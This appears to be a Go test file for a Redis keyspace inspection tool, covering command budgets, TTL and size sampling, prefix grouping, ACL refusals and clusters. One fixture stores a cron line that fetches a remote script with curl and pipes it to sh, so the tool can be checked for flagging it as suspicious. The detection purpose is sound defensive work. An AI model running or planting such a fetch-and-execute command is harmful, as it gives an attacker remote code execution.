package keyspace_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/olympiades-ia/olymp-cache/internal/config"
	"github.com/olympiades-ia/olymp-cache/internal/evidence"
	"github.com/olympiades-ia/olymp-cache/internal/facts/snapshot"
	"github.com/olympiades-ia/olymp-cache/internal/keyspace"
	"github.com/olympiades-ia/olymp-cache/internal/redisconn"
	"github.com/olympiades-ia/olymp-cache/internal/redistest"
)

func open(t *testing.T, url string) *redisconn.Conn {
	t.Helper()
	unset := func(string) (string, bool) { return "", false }
	cfg, err := config.Load(config.Input{URL: url, URLSet: true, LookupEnv: unset})
	if err != nil {
		t.Fatal(err)
	}
	conn, err := redisconn.Open(t.Context(), cfg.Target, redisconn.Options{Timeout: 3 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(conn.Close)
	return conn
}

type doer interface {
	Do(args ...string) (string, error)
}

func do(t *testing.T, s doer, args ...string) {
	t.Helper()
	if _, err := s.Do(args...); err != nil {
		t.Fatalf("%s: %v", strings.Join(args, " "), err)
	}
}

func vitrine() map[string][]string {
	return map[string][]string{"vitrine": {"vitrine_cache", "vitrine:*"}}
}

func peek(t *testing.T, url string, total int64, budget int) (evidence.Keys, int) {
	t.Helper()
	conn := open(t, url)
	before := conn.CommandsSent()
	f := keyspace.Peek(t.Context(), conn, keyspace.PeekOptions{Groups: vitrine(), Total: total, Budget: budget})
	if f.Status != snapshot.OK {
		t.Fatalf("the peek was %v: %s", f.Status, f.Reply)
	}
	return f.Value, conn.CommandsSent() - before
}

func TestPeek(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t)
	for i := range 60 {
		do(t, s, "SET", fmt.Sprintf("stats:%d", i), "x", "EX", "100")
		do(t, s, "SET", fmt.Sprintf("session:%d", i), "x")
	}
	do(t, s, "SET", "vitrine_cache", "page", "EX", "60")
	do(t, s, "SET", "alone", strings.Repeat("x", 3<<20))
	do(t, s, "SET", "backup1", "\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/x | sh\n\n")
	do(t, s, "SET", "backup2", "yesterday's figures")
	do(t, s, "SET", redisconn.TestKeyPrefix+"0", "ours")

	keys, sent := peek(t, s.URL(), 125, 20)
	if sent > 20+2+2 { // two for each large value, one for each suspicious name come on top: this server is not healthy
		if sent > 20+2+11 {
			t.Errorf("%d commands", sent)
		}
	}
	if keys.Scanned != 124 {
		t.Errorf("%d names were read, want all but ours", keys.Scanned)
	}
	var group evidence.Group
	if len(keys.Groups) == 1 {
		group = keys.Groups[0]
	}
	if left := group.TTL.Or(0); !group.Exists || left < 50_000 || left > 60_000 || group.Bytes.Or(0) < 50 {
		t.Errorf("vitrine_cache is seen as %+v", group)
	}
	if diff := cmp.Diff([]snapshot.Text{"backup1"}, keys.Suspicious); diff != "" {
		t.Errorf("suspicious names (-want +got):\n%s", diff)
	}
	byName := map[string]evidence.Key{}
	for _, k := range keys.Asked {
		byName[string(k.Name)] = k
	}
	alone := byName["alone"]
	if alone.Bytes.Or(0) < 3<<20 || alone.Type != "string" || alone.TTL.Or(0) != -1 {
		t.Errorf("the large value is seen as %+v", alone)
	}
	families := map[snapshot.Text]evidence.Prefix{}
	for _, p := range keys.Prefixes {
		families[p.Name] = p
	}
	if p := families["session:*"]; p.Count != 60 || p.Asked == 0 || p.WithTTL != 0 {
		t.Errorf("session:* is seen as %+v", p)
	}
	if p := families["stats:*"]; p.Count != 60 || p.Asked == 0 || p.WithTTL != p.Asked {
		t.Errorf("stats:* is seen as %+v", p)
	}
}

// TestPeekOtherPrefix: the application writes under a prefix of its own.
func TestPeekOtherPrefix(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t)
	for i := range 1500 {
		do(t, s, "SET", fmt.Sprintf("k%d", i), "x")
	}
	do(t, s, "SET", "prod:1:vitrine_cache", "page")
	keys, sent := peek(t, s.URL(), 1501, 12)
	if sent > 12 {
		t.Errorf("%d commands", sent)
	}
	if len(keys.Groups) != 1 || keys.Groups[0].Exists || !cmp.Equal(keys.Groups[0].Alike, []snapshot.Text{"prod:1:vitrine_cache"}) {
		t.Errorf("the group is seen as %+v", keys.Groups)
	}
}

func TestPeekEmpty(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t)
	keys, sent := peek(t, s.URL(), 0, 12)
	if sent != 0 || keys.Scanned != 0 {
		t.Errorf("an empty database cost %d commands: %+v", sent, keys)
	}
}

func TestPeekRefused(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t, redistest.WithPassword("admin-pw"), redistest.WithUser("app", "app-pw", "~* +@connection"))
	conn := open(t, s.URLOf("app", "app-pw", s.Addr()))
	f := keyspace.Peek(t.Context(), conn, keyspace.PeekOptions{Total: 5, Budget: 12})
	if f.Status != snapshot.Denied || f.Cause != "auth-no-permission" || !strings.Contains(string(f.Reply), "scan") {
		t.Errorf("a refused SCAN is %+v", f)
	}
}

// TestPeekHalfRefused: names are told, times to live and sizes are not, or of the application's own keys only.
func TestPeekHalfRefused(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t, redistest.WithUser("names", "app-pw", "~* +@all -pttl -memory"),
		redistest.WithUser("app", "app-pw", "~vitrine* +@all"), redistest.WithUser("other", "app-pw", "~other* +@all"))
	do(t, s, "SET", "vitrine_cache", "page", "EX", "60")
	do(t, s, "SET", "other", "x")
	keys, _ := peek(t, s.URLOf("names", "app-pw", s.Addr()), 2, 20)
	for _, f := range []snapshot.Fact[int]{keys.TTLs, keys.Sizes} {
		if f.Status != snapshot.Denied || f.Cause != "auth-no-permission" || !strings.Contains(string(f.Reply), "NOPERM") {
			t.Errorf("a refused question is %+v", f)
		}
	}
	if len(keys.Groups) != 1 || keys.Groups[0].Lookup.Status != snapshot.Denied || keys.Scanned != 2 {
		t.Errorf("%+v", keys)
	}
	keys, _ = peek(t, s.URLOf("app", "app-pw", s.Addr()), 2, 20)
	if keys.TTLs.Status != snapshot.OK || keys.Sizes.Value != 2 || !keys.Groups[0].Lookup.Value { // the group's and the sample's
		t.Errorf("%+v", keys)
	}
	keys, _ = peek(t, s.URLOf("other", "app-pw", s.Addr()), 2, 20)
	if keys.TTLs.Status != snapshot.OK || keys.Groups[0].Lookup.Status != snapshot.Denied {
		t.Errorf("%+v", keys)
	}
}

func TestPeekCluster(t *testing.T) {
	t.Parallel()
	c := redistest.StartCluster(t, 3)
	for i := range 30 {
		do(t, c, "SET", fmt.Sprintf("page:%d", i), "x", "EX", "100")
	}
	keys, _ := peek(t, c.URL(), 30, 20)
	if keys.Scanned != 30 || len(keys.Asked) == 0 || len(keys.Prefixes) != 1 || keys.Prefixes[0].WithTTL != len(keys.Asked) {
		t.Errorf("a cluster is seen as %+v", keys)
	}
}
